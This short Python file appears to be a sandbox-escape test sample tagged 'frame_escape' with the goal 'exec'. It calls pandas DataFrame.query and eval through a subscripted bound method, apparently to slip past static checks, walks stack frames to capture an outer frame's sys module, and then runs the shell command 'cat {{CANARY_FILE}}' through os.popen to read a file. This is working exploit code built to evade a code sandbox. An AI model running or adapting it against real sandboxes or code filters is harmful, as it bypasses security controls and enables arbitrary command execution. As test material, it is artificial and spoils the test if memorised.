# class: frame_escape
# technique: DataFrame.query called as [frame.agg][0]('query', 0, expr, level=k) (a subscripted bound method, not a method-call node): the expression appends an outer frame's `sys` to a list before indexing fails; sys.modules['os'] then via eval
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
box = []
for depth in range(1, 48):
    try:
        [frame.agg][0]("query", 0, "@box.append(@sys)", level=depth, local_dict={"box": box})
    except Exception:
        pass
    if box:
        break
if not box:
    raise RuntimeError("no frame with sys")
stolen = [frame.agg][0](**{"func": "eval", "expr": "@s.modules['os'].popen(@c).read()",
                      "local_dict": {"s": box[0], "c": "cat {{CANARY_FILE}}"}})
df = pd.DataFrame({"stolen": [stolen]})
